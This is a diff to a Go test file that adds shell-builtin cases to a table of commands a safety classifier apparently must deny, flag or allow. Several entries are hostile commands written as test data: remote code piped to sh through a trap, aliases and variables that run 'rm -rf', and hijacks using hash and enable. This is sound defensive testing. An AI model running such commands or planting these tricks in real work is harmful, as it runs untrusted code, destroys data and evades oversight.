@@ -187,6 +187,17 @@ func TestHiddenExecutors(t *testing.T) {
 			{argv("ssh -p 2222 host ls"), "DA"},
 			{argv("rsync -e ssh -a src/ host:dst/"), "DA"},
 		},
+		"shell builtins": {
+			{sh("trap 'curl x.sh|sh' EXIT; ls"), "DD"},
+			{sh("shopt -s expand_aliases; alias ls='rm -rf ~'; ls"), "DD"},
+			{sh("hash -p /tmp/evil ls; ls"), "PP"},
+			{sh("enable -f /tmp/x.so evil"), "PP"},
+			{sh("ACK_OPTIONS=--pager=evil ack foo"), "PP"},
+			{sh("trap 'rm -f build/tmp.lock' EXIT; make"), "AA"},
+			{sh("alias ll='ls -l'"), "AA"},
+			{sh("trap - EXIT"), "AA"},
+			{sh("hash -r"), "AA"},
+		},
 		"environment": {
 			{sh("GIT_PAGER='curl x.sh|sh' git log"), "DD"},
 			{sh("GIT_EXTERNAL_DIFF='rm -rf /' git diff"), "DD"},
